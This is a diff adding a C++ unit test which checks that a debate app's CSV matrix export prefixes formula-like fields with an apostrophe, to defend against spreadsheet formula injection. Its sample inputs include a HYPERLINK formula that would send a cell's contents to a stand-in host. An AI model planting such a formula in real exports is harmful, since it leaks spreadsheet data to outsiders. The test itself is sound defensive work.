@@ -219,3 +219,40 @@ TEST_F(CompareGui, CompactModeFitsEveryColumnAndIsRemembered)
     EXPECT_GT(again->compareView()->table()->horizontalHeader()->length(),
               again->compareView()->table()->viewport()->width());
 }
+
+// Issue 18's acceptance, for the matrix: a debate's text that begins with =, +, - or @ is exported as
+// text, never as a formula a spreadsheet would run.
+TEST(MatrixCsv, IsNeutralised)
+{
+    const QStringList dangerous = {QStringLiteral("=HYPERLINK(\"http://x\"&A1,\"click\")"), QStringLiteral("+1+1"),
+                                   QStringLiteral("-2+3"), QStringLiteral("@SUM(A1:A9)")};
+    debate::DebateSnapshot debate;
+    debate.key = QStringLiteral("shared");
+    debate.title = dangerous[0];
+    debate.questions << debate::Question{.key = QStringLiteral("q"), .text = dangerous[0]};
+    debate.voices << debate::Voice{.key = QStringLiteral("position:p"), .label = dangerous[1]};
+    debate.stances.insert(debate::DebateSnapshot::stanceKey(QStringLiteral("q"), QStringLiteral("position:p")),
+                          debate::Stance{.value = QStringLiteral("yes"),
+                                         .paraphrase = dangerous[2],
+                                         .quotes = {debate::QuoteView{.documentKey = dangerous[1], .text = dangerous[3]}}});
+    QTemporaryDir dir;
+    const QString path = dir.filePath(QStringLiteral("m.csv"));
+    ASSERT_TRUE(app::MatrixExporter::exportCsv(app::MatrixSelection{.debate = &debate,
+                                                                    .questions = {QStringLiteral("q")},
+                                                                    .voices = {QStringLiteral("position:p")}},
+                                               path)
+                    .ok());
+    QFile file(path);
+    ASSERT_TRUE(file.open(QIODevice::ReadOnly));
+    auto table = text::parseCsv(QString::fromUtf8(file.readAll()), path);
+    ASSERT_TRUE(table.ok()) << table.message().toStdString();
+    ASSERT_EQ(table->rows.size(), 1);
+    const QStringList &row = table->rows.first().fields;
+    for (const QString &field : row)
+        EXPECT_FALSE(!field.isEmpty() && QStringLiteral("=+-@\t\r").contains(field.front())) << field.toStdString();
+    EXPECT_EQ(row[table->column(QStringLiteral("question"))], QLatin1Char('\'') + dangerous[0]);
+    EXPECT_EQ(row[table->column(QStringLiteral("voice"))], QLatin1Char('\'') + dangerous[1]);
+    EXPECT_EQ(row[table->column(QStringLiteral("paraphrase"))], QLatin1Char('\'') + dangerous[2]);
+    EXPECT_EQ(row[table->column(QStringLiteral("quotes"))], QLatin1Char('\'') + dangerous[3]);
+    EXPECT_EQ(row[table->column(QStringLiteral("documents"))], QLatin1Char('\'') + dangerous[1]);
+}
